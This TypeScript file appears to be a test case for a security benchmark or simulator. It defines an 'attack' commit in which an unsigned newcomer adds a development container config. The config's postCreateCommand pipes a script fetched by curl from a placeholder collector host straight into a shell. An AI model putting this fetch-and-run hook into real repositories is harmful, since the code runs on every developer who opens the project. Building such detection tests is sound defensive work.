import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { COLLECTOR, CURL, SHELL } from "../../put-together.ts";

export const golden: GoldenCase = {
  kind: "attack",
  base: "javascript",
  story: "A development container whose start pipes a stranger's page into a shell.",
  write(branch) {
    branch.unsigned(NEWCOMER, "Add a development container", {
      ".devcontainer/devcontainer.json": `${JSON.stringify({ image: "mcr.microsoft.com/devcontainers/javascript-node:24", postCreateCommand: `npm ci && ${CURL} -s ${COLLECTOR}/setup.sh | ${SHELL}` }, null, 2)}\n`,
    });
  },
};
